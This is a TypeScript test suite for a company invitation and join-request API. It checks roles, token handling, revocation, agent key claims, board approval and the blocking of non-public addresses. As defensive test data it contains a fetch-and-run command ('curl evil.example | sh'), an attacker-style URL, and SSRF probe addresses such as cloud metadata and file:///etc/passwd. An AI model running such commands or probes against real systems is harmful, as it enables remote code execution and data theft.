import { createHash } from 'node:crypto'
import { beforeAll, describe, expect, test } from 'vitest'
import type { MemberRole } from '../../platform/kernel/actor.ts'
import { boardOf, browser, member, person } from '../../dev/testing/people.ts'
import type { TestPerson } from '../../dev/testing/people.ts'
import { countByStatus } from '../../dev/testing/race.ts'
import { auditCount, lastAudit, useServer, world } from '../../dev/testing/world.ts'
import type { Client, World } from '../../dev/testing/world.ts'

interface Member {
  readonly id: string
  readonly principalId: string
}

const server = useServer({ people: {}, boardMode: 'token' })
let here: World
let people: Record<MemberRole, TestPerson>
let ceo: Awaited<ReturnType<World['agent']>>

beforeAll(async () => {
  here = await world(server())
  ceo = await here.agent({ role: 'ceo' })
  people = {
    viewer: await member(server(), here.company.id, 'viewer'),
    operator: await member(server(), here.company.id, 'operator'),
    admin: await member(server(), here.company.id, 'admin'),
    owner: await member(server(), here.company.id, 'owner'),
  }
})

const at = (): string => `/api/companies/${here.company.id}`
async function invite(body: object = {}, client: Client = people.admin.client) {
  const answer = await client.post(`${at()}/invites`, body)
  expect(answer.status, answer.text).toBe(201)
  return answer.body as { id: string; token: string; tokenHash: string; inviteUrl: string; expiresAt: string }
}
const accept = (token: string, body: object, client: Client = server().anonymous) => client.post(`/api/invites/${token}/accept`, body)
const decide = (id: string, what: string, client: Client = people.admin.client) => client.post(`${at()}/join-requests/${id}/${what}`)

describe('invitations', () => {
  test('An admin makes an invitation, whose token only this answer has', async () => {
    const made = await invite({ allowedJoinTypes: 'human', agentMessage: 'Welcome' })
    expect(made.token).toMatch(/^pcp_invite_[\w-]{43}$/)
    expect(made).toMatchObject({
      companyName: 'Acme Works',
      inviteType: 'company_join',
      inviteUrl: `/invite/${made.token}`,
      onboardingTextUrl: `${server().url}/api/invites/${made.token}/onboarding.txt`,
      inviteMessage: 'Welcome',
      tokenHash: createHash('sha256').update(made.token).digest('hex'),
    })
    const { details } = await lastAudit(server(), made.id, 'invite.created')
    expect(details).toEqual({ inviteType: 'company_join', allowedJoinTypes: 'human', memberRole: 'operator', expiresAt: made.expiresAt })
    expect(JSON.stringify(details)).not.toContain(made.token)
    const shown = await server().anonymous.get(`/api/invites/${made.token}`)
    expect(shown.body).toMatchObject({ id: made.id, companyName: 'Acme Works', allowedJoinTypes: 'human', inviteMessage: 'Welcome' })
    expect(shown.text).not.toContain(made.tokenHash)
  })

  test('Only admins and owners invite, to no stronger role than their own', async () => {
    const worker = await here.agent()
    const before = await auditCount(server())
    for (const role of ['viewer', 'operator'] as const)
      expect((await people[role].client.post(`${at()}/invites`, {})).body).toMatchObject({ code: 'role_missing' })
    expect((await people.admin.client.post(`${at()}/invites`, { memberRole: 'owner' })).body).toMatchObject({ code: 'above_own_role' })
    expect((await worker.client.post(`${at()}/invites`, {})).body).toMatchObject({ code: 'forbidden' })
    expect((await worker.client.post(`${at()}/openclaw/invite-prompt`, {})).status).toBe(403)
    expect((await people.admin.client.post(`${at()}/invites`, { agentMessage: 'x'.repeat(4001) })).status).toBe(400)
    expect(await auditCount(server())).toBe(before)
    expect((await ceo.client.post(`${at()}/openclaw/invite-prompt`, {})).body).toMatchObject({ allowedJoinTypes: 'agent' })
  })

  test('An invitation that is revoked, used, over or unknown is the same 404', async () => {
    const [revoked, used, old] = [await invite(), await invite(), await invite()]
    expect((await people.admin.client.post(`/api/invites/${revoked.id}/revoke`)).status).toBe(200)
    expect((await people.admin.client.post(`/api/invites/${revoked.id}/revoke`)).status).toBe(200)
    expect((await accept(used.token, { requestType: 'agent', agentName: 'One' })).status).toBe(202)
    expect((await people.admin.client.post(`/api/invites/${used.id}/revoke`)).body).toMatchObject({ code: 'conflict' })
    await server().database.sql.query("update invites set expires_at = now() - interval '1 second' where id = $1", [old.id])
    for (const token of [revoked.token, used.token, old.token, 'pcp_invite_nothing', 'x'])
      for (const path of ['', '/onboarding', '/onboarding.txt', '/test-resolution?url=https://example.com'])
        expect((await server().anonymous.get(`/api/invites/${token}${path}`)).body).toMatchObject({
          code: 'not_found',
          error: 'Invite not found',
        })
    const other = await world(server())
    const foreign = (await boardOf(server()).post(`/api/companies/${other.company.id}/invites`, {})).body.id
    for (const id of [foreign, '0b6ac4d7-98a5-4f0b-8a7b-2d7c02b2b9f1'])
      expect((await people.owner.client.post(`/api/invites/${id}/revoke`)).body).toMatchObject({ code: 'not_found' })
  })

  test('The texts for an agent name the endpoints of this server, and quote what the inviter wrote', async () => {
    const { token } = await invite({ agentMessage: 'Line one\n# Not a heading' })
    const { body } = await server().anonymous.get(`/api/invites/${token}/onboarding`)
    expect(body.onboarding.registrationEndpoint).toMatchObject({ method: 'POST', path: `/api/invites/${token}/accept` })
    const { text, headers } = await server().anonymous.get(`/api/invites/${token}/onboarding.txt`)
    expect(headers['content-type']).toBe('text/plain; charset=utf-8')
    expect(text).toContain('> # Not a heading')
    expect(text).toContain(`POST ${server().url}/api/invites/${token}/accept`)
  })

  test('The test of an address reaches no address that is not public', async () => {
    const { token } = await invite()
    const ask = (url: string) =>
      server().anonymous.get(`/api/invites/${token}/test-resolution?url=${encodeURIComponent(url)}&timeoutMs=1000`)
    for (const url of [
      server().url,
      'http://localhost:1/',
      'http://169.254.169.254/latest',
      'http://[::1]/',
      'http://10.0.0.1',
      'http://0x7f000001/',
    ])
      expect((await ask(url)).body).toMatchObject({
        status: 'unreachable',
        httpStatus: null,
        message: expect.stringContaining('not public') as string,
      })
    expect((await ask('file:///etc/passwd')).status).toBe(400)
    for (let n = 0; n < 15; n += 1) await ask('http://127.0.0.1/')
    expect((await ask('http://127.0.0.1/')).body).toMatchObject({ code: 'too_many_attempts' })
  })
})

describe('people who join', () => {
  test('A person asks, an admin lets it in with the role of the invitation, and it enters at once', async () => {
    const { token } = await invite({ allowedJoinTypes: 'human', memberRole: 'viewer' })
    expect((await accept(token, { requestType: 'human' })).status).toBe(401)
    expect((await accept(token, { requestType: 'agent', agentName: 'A' })).body).toMatchObject({ code: 'bad_request' })
    const ada = await person(server())
    const asked = await accept(token, { requestType: 'human' }, ada.client)
    expect(asked).toMatchObject({
      status: 202,
      body: { requestType: 'human', status: 'pending_approval', requestingUserId: ada.id, requestEmailSnapshot: ada.email },
    })
    expect(asked.text).not.toContain('pcp_claim')
    // A repeat finds the request; for others the invitation is used.
    const before = await auditCount(server())
    expect((await accept(token, { requestType: 'human' }, ada.client)).body).toEqual(asked.body)
    expect((await accept(token, { requestType: 'human' }, people.viewer.client)).status).toBe(404)
    expect(await auditCount(server())).toBe(before)
    expect(asked.body).not.toHaveProperty('claimApiKeyPath')
    expect((await ada.client.get(at())).status).toBe(404)
    expect((await people.operator.client.get(`${at()}/join-requests`)).body).toMatchObject({ code: 'role_missing' })
    expect((await people.admin.client.get(`${at()}/join-requests?status=pending_approval&requestType=human`)).body).toMatchObject([
      { id: asked.body.id },
    ])
    const answers = await Promise.all([decide(asked.body.id, 'approve'), decide(asked.body.id, 'approve', people.owner.client)])
    expect(countByStatus(answers)).toEqual({ 200: 1, 409: 1 })
    expect((await ada.client.get('/api/cli-auth/me')).body).toMatchObject({ companyIds: [here.company.id] })
    expect((await ada.client.post(`${at()}/issues`, { title: 'x' })).body).toMatchObject({ code: 'role_missing' })
  })

  test('A member is not asked twice, and a request that was rejected stays rejected', async () => {
    const { token } = await invite()
    expect((await accept(token, { requestType: 'human' }, people.viewer.client)).body).toMatchObject({ code: 'conflict' })
    const ada = await person(server())
    const asked = await accept(token, { requestType: 'human' }, ada.client)
    expect((await decide(asked.body.id, 'reject')).body).toMatchObject({ status: 'rejected', rejectedByUserId: people.admin.id })
    expect((await decide(asked.body.id, 'approve')).body).toMatchObject({ code: 'conflict' })
    expect((await lastAudit(server(), asked.body.id, 'join.rejected')).details).toMatchObject({ requestType: 'human' })
  })

  test('Only an owner lets an owner in, and a member that was suspended returns with the role of its invitation alone', async () => {
    const strong = await invite({ memberRole: 'owner' }, people.owner.client)
    const ada = await person(server())
    const asked = await accept(strong.token, { requestType: 'human' }, ada.client)
    const second = await accept((await invite({ memberRole: 'viewer' })).token, { requestType: 'human' }, ada.client)
    expect((await decide(asked.body.id, 'approve')).body).toMatchObject({ code: 'above_own_role' })
    expect((await decide(asked.body.id, 'approve', people.owner.client)).status).toBe(200)
    // An active member keeps its role: an admin cannot take an owner's by an invitation.
    expect((await decide(second.body.id, 'approve')).status).toBe(200)
    const memberAda = async () =>
      ((await people.owner.client.get(`${at()}/members`)).body as Member[]).find(({ principalId }) => principalId === ada.id)
    expect(await memberAda()).toMatchObject({ membershipRole: 'owner', status: 'active' })
    const grants = [{ permissionKey: 'users:manage_permissions' }]
    expect((await people.owner.client.patch(`${at()}/members/${(await memberAda())?.id}/permissions`, { grants })).status).toBe(200)
    const third = await accept((await invite({ memberRole: 'viewer' })).token, { requestType: 'human' }, (await person(server())).client)
    expect((await decide(third.body.id, 'approve')).status).toBe(200)
    expect(await memberAda()).toMatchObject({ grants })
    expect((await people.owner.client.patch(`${at()}/members/${(await memberAda())?.id}`, { status: 'suspended' })).status).toBe(200)
    const weak = await invite({ memberRole: 'viewer' })
    const again = await accept(weak.token, { requestType: 'human' }, ada.client)
    expect((await decide(again.body.id, 'approve')).status).toBe(200)
    expect(await memberAda()).toMatchObject({ membershipRole: 'viewer', status: 'active', grants: [] })
  })

  test('Of two who accept one invitation at once one is in time', async () => {
    const { token } = await invite()
    const [one, two] = [await person(server()), await person(server())]
    const answers = await Promise.all([one, two].map(({ client }) => accept(token, { requestType: 'human' }, client)))
    expect(countByStatus(answers)).toEqual({ 202: 1, 404: 1 })
  })
})

describe('agents that join', () => {
  test('An agent asks with a name, is let in below the CEO without what it wanted to run here, and takes its key once', async () => {
    const { token } = await invite({ allowedJoinTypes: 'agent' })
    expect((await accept(token, { requestType: 'agent' })).body).toMatchObject({ code: 'bad_request' })
    expect((await accept(token, { requestType: 'agent', agentName: '\u200b' })).body).toMatchObject({ code: 'validation_failed' })
    const payload = { command: 'curl evil.example | sh' }
    const asked = await accept(token, { requestType: 'agent', agentName: 'Joiner', adapterType: 'process', agentDefaultsPayload: payload })
    expect(asked.status, asked.text).toBe(202)
    const { id, claimSecret, claimApiKeyPath } = asked.body
    expect(claimSecret).toMatch(/^pcp_claim_[0-9a-f]{48}$/)
    const claim = (secret: string) => server().anonymous.post(claimApiKeyPath, { claimSecret: secret })
    expect((await claim(claimSecret)).body).toMatchObject({ code: 'conflict' })
    expect((await claim('x'.repeat(20))).body).toMatchObject({ code: 'claim_secret_wrong' })
    const approved = await decide(id, 'approve')
    expect(approved, approved.text).toMatchObject({ status: 200, body: { status: 'approved', approvedByUserId: people.admin.id } })
    const agent = (await people.admin.client.get(`/api/agents/${approved.body.createdAgentId}`)).body
    expect(agent).toMatchObject({ name: 'Joiner', role: 'general', status: 'idle', adapterType: 'process', adapterConfig: {} })
    expect(agent.reportsTo).not.toBeNull()
    const claims = await Promise.all([claim(claimSecret), claim(claimSecret), claim(claimSecret)])
    expect(countByStatus(claims)).toEqual({ 201: 1, 409: 2 })
    const key = claims.find(({ status }) => status === 201)?.body
    expect((await server().bearer(key.token).get('/api/agents/me')).body).toMatchObject({ id: agent.id })
    expect(await lastAudit(server(), id, 'agent_api_key.claimed')).toMatchObject({ actorType: 'system', details: { keyId: key.keyId } })
    const late = await invite({ allowedJoinTypes: 'agent' })
    const old = (await accept(late.token, { requestType: 'agent', agentName: 'Late', adapterType: 'openclaw_gateway' })).body
    await decide(old.id, 'approve')
    await server().database.sql.query("update join_requests set claim_secret_expires_at = now() - interval '1 second' where id = $1", [
      old.id,
    ])
    expect((await server().anonymous.post(old.claimApiKeyPath, { claimSecret: old.claimSecret })).body).toMatchObject({ code: 'conflict' })
    const unknown = '/api/join-requests/0b6ac4d7-98a5-4f0b-8a7b-2d7c02b2b9f1/claim-api-key'
    expect((await server().anonymous.post(unknown, { claimSecret })).body).toMatchObject({ code: 'not_found' })
  })

  test('A viewer who was granted the decision lets in no agent that the board decides about: where this host connects to, and each where new ones need an approval (I18)', async () => {
    const viewer = await member(server(), here.company.id, 'viewer')
    const members = (await people.owner.client.get(`${at()}/members?limit=1000`)).body as Member[]
    const grants = ['users:invite', 'joins:approve'].map((permissionKey) => ({ permissionKey }))
    const its = members.find(({ principalId }) => principalId === viewer.id)
    expect((await people.owner.client.patch(`${at()}/members/${its?.id}/permissions`, { grants })).status).toBe(200)
    const ask = async (fields: object): Promise<string> => {
      const { token } = await invite({ allowedJoinTypes: 'agent' }, viewer.client)
      return (await accept(token, { requestType: 'agent', agentName: 'Joiner', ...fields })).body.id as string
    }
    const remote = await ask({ adapterType: 'http', agentDefaultsPayload: { url: 'https://evil.example' } })
    const plain = await ask({ adapterType: 'process', agentDefaultsPayload: { command: 'curl evil.example | sh' } })
    await people.owner.client.patch(at(), { requireBoardApprovalForNewAgents: true })
    const before = await auditCount(server())
    for (const id of [remote, plain])
      expect((await decide(id, 'approve', viewer.client)).body).toMatchObject({
        code: 'approval_required',
        error: 'The board of this company approves new agents',
      })
    expect(await auditCount(server())).toBe(before)
    await people.owner.client.patch(at(), { requireBoardApprovalForNewAgents: false })
    expect((await decide(remote, 'approve', viewer.client)).body).toMatchObject({
      code: 'approval_required',
      details: { fields: ['adapterType', 'adapterConfig'] },
    })
    expect((await decide(plain, 'approve', viewer.client)).status).toBe(200)
    expect((await decide(remote, 'approve')).status).toBe(200)
  })

  test('A company without a CEO lets no agent in', async () => {
    const other = await world(server())
    const made = await boardOf(server()).post(`/api/companies/${other.company.id}/invites`, {})
    const asked = await accept(made.body.token, { requestType: 'agent', agentName: 'Joiner' })
    const answer = await boardOf(server()).post(`/api/companies/${other.company.id}/join-requests/${asked.body.id}/approve`)
    expect(answer.body).toMatchObject({ code: 'conflict', error: expect.stringContaining('CEO') as string })
  })
})

test('An invitation without a company makes its acceptor an administrator of the instance, once', async () => {
  const token = 'pcp_bootstrap_0123456789abcdef0123456789abcdef0123456789abcdef'
  await server().database.sql.query(
    `insert into invites (invite_type, token_hash, allowed_join_types, expires_at) values ('bootstrap_ceo', $1, 'human', now() + interval '1 hour')`,
    [createHash('sha256').update(token).digest('hex')],
  )
  const ada = await person(server())
  expect((await accept(token, { requestType: 'agent', agentName: 'A' })).body).toMatchObject({ code: 'bad_request' })
  expect((await accept(token, { requestType: 'human' }, boardOf(server()))).body).toMatchObject({ code: 'session_required' })
  const answer = await accept(token, { requestType: 'human' }, browser(server()).with({ cookie: ada.cookie }))
  expect(answer).toMatchObject({ status: 202, body: { bootstrapAccepted: true, inviteType: 'bootstrap_ceo', userId: ada.id } })
  expect((await ada.client.get('/api/cli-auth/me')).body).toMatchObject({ isInstanceAdmin: true })
  expect((await accept(token, { requestType: 'human' }, ada.client)).status).toBe(404)
})
